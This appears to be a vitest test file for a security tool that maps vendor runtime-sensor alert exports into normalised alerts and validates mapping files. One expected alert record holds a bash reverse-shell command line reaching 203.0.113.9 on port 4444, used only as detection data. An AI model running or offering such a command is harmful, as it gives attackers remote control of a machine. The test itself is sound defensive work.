import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { MappingError, loadMapping, mappingProfile, parseMapping } from '../../src/alerts/mapping.js';
import { RecordError } from '../../src/alerts/vendors/profile.js';
import type { RawRecord } from '../../src/alerts/vendors/profile.js';

const EXAMPLE = new URL('../../samples/mapping-example.yaml', import.meta.url);
const CSV = new URL('../fixtures/alerts/acme-export.csv', import.meta.url);
const rows = parse(readFileSync(CSV), { columns: true, bom: true }) as RawRecord[];
const src = (record: number) => ({ file: 'acme.csv', record, vendor: 'x' });

function errorOf(yaml: string): string {
  try {
    parseMapping(yaml, 'bad.yaml');
  } catch (e) {
    expect(e).toBeInstanceOf(MappingError);
    return (e as Error).message;
  }
  throw new Error('expected a MappingError');
}

describe('the example mapping file', () => {
  it('maps the export it was written for', async () => {
    const profile = await loadMapping(EXAMPLE.pathname);
    expect(profile.id).toBe('custom');
    expect(profile.product).toBe('Acme Runtime Sensor (mapping mapping-example.yaml)');
    expect(profile.fields['process.commandLine']).toBe('CmdLine | CommandLine');
    const [shell, curl] = rows.map((r, n) => profile.map(r, src(n + 1)));
    expect(shell).toMatchObject({ id: 'a-1', time: '2026-02-13T10:00:00.000Z', title: 'Reverse shell', severity: 'critical', action: 'killed', techniques: ['T1059.004'], cluster: 'prod-eks' });
    expect(shell.source.vendor).toBe('custom');
    expect(shell.host).toEqual({ name: 'ip-10-0-1-2.ec2.internal', ips: ['10.0.1.2', '10.0.1.3'] });
    // Container.Pod is empty in this row and stays empty: the generic fallback only fills fields the file does not map.
    expect(shell.container).toEqual({ id: '0123456789ab' });
    // Sha256 is not mapped; the generic fallback reads it.
    expect(shell.process).toMatchObject({ name: 'bash', commandLine: 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1', pid: '18446744073709551615', user: 'app', hash: 'abc123' });
    expect(shell.process.ancestors).toEqual([{ name: 'java', commandLine: 'java -jar app.jar' }]);
    expect(shell.network).toEqual({ dstIp: '203.0.113.9', dstPort: 4444 });
    expect(curl).toMatchObject({ time: '2026-03-01T11:30:15.000Z', title: 'Acme Runtime Sensor alert', severity: 'medium', action: 'detected' });
    expect(curl.container).toEqual({ pod: 'api-1', namespace: 'shop' });
  });

  it('detects its own export and not an unrelated record', async () => {
    const profile = await loadMapping(EXAMPLE.pathname);
    expect(profile.detect(rows[0], { fileName: 'acme.csv' })).toBeGreaterThan(0.8);
    expect(profile.detect({ foo: 'x', bar: 'y' }, { fileName: 'x' })).toBe(0);
  });
});

describe('mapping options', () => {
  it('reads epoch units exactly, nested JSON paths, headers with other spellings, and no fallback', () => {
    const profile = mappingProfile(
      parseMapping('timeFormat: epoch-ns\nfallback: none\ndetect: { require: [ts] }\nfields:\n  time: ts\n  host:\n    name: Agent.Host\n  process.commandLine: command line\n', 'm.yaml'),
    );
    const record = { ts: '1770116400123456789', Agent: { Host: 'node-1' }, COMMAND_LINE: 'id', hostname: 'ignored' };
    const a = profile.map(record, src(1));
    expect(a.time).toBe('2026-02-03T11:00:00.123Z');
    expect(a.host).toEqual({ name: 'node-1', ips: [] });
    expect(a.process.commandLine).toBe('id');
    expect(profile.detect(record, { fileName: 'x' })).toBe(0.95);
    expect(profile.detect({ Agent: 1 }, { fileName: 'x' })).toBe(0);
    expect(() => profile.map({ other: 1 }, src(2))).toThrow(RecordError);
  });

  it('accepts JSON mapping files', () => {
    const spec = parseMapping('{"fields": {"time": "t", "title": ["a", "b"]}, "severity": {"P1": "critical"}}', 'm.json');
    expect(spec.fields).toEqual({ time: { columns: ['t'] }, title: { columns: ['a', 'b'] } });
    expect(spec.severity).toEqual({ P1: 'critical' });
  });
});

describe('mapping validation', () => {
  it('names the file and line of an unknown field and suggests the right spelling', () => {
    const message = errorOf('fields:\n  time: t\n  host.nam: Computer\n  process.commandline: Cmd\n');
    expect(message).toContain('bad.yaml:3: fields.host.nam: unknown tool field; known fields: id, time');
    expect(message).toContain('bad.yaml:4: fields.process.commandline: unknown tool field; did you mean "process.commandLine"?');
  });

  it('reports wrong types and values, all at once', () => {
    const message = errorOf('vendor: [x]\ndateOrder: ymd\ntimeFormat: epoch-m\nfallback: maybe\nextra: 1\nfields:\n  time: { column: t }\n  title: []\n  host.name:\nseverity:\n  "1": severe\naction:\n  Stopped: stopped\n');
    const lines = message.split('\n');
    expect(lines).toEqual(
      expect.arrayContaining([
        expect.stringMatching(/^bad\.yaml:1: vendor: must be text$/),
        expect.stringMatching(/^bad\.yaml:2: dateOrder: "ymd" is not dmy or mdy$/),
        expect.stringMatching(/^bad\.yaml:3: timeFormat: "epoch-m" is not one of: auto, iso, epoch-s/),
        expect.stringMatching(/^bad\.yaml:4: fallback: "maybe" is not generic or none$/),
        expect.stringMatching(/^bad\.yaml:5: extra: unknown setting/),
        expect.stringMatching(/^bad\.yaml:7: fields\.time: a map must be \{ value: constant \}/),
        expect.stringMatching(/^bad\.yaml:8: fields\.title: the list of columns is empty$/),
        expect.stringMatching(/fields\.host\.name: is empty/),
        expect.stringMatching(/^bad\.yaml:11: severity\.1: "severe" is not one of: critical, high/),
        expect.stringMatching(/^bad\.yaml:13: action\.Stopped: "stopped" is not one of: detected, blocked, killed, quarantined, unknown$/),
      ]),
    );
    expect(lines).toHaveLength(10);
  });

  it('refuses files without fields, non-maps and broken YAML', () => {
    expect(errorOf('vendor: x\n')).toContain('bad.yaml');
    expect(errorOf('vendor: x\n')).toContain('fields: is missing');
    expect(errorOf('- a\n- b\n')).toBe('bad.yaml: a mapping file must be a map with a "fields" section');
    expect(errorOf('fields: {time: [a, b\n')).toMatch(/^bad\.yaml:\d+: not valid YAML/);
  });

  it('names the path of a file it cannot read', async () => {
    const dir = mkdtempSync(join(tmpdir(), 'kdr-map-'));
    await expect(loadMapping(join(dir, 'missing.yaml'))).rejects.toThrow(/missing\.yaml: cannot read the mapping file \(ENOENT\)/);
    writeFileSync(join(dir, 'bad.yaml'), 'fields:\n  nope: x\n');
    await expect(loadMapping(join(dir, 'bad.yaml'))).rejects.toThrow(/bad\.yaml:2: fields\.nope: unknown tool field/);
  });
});
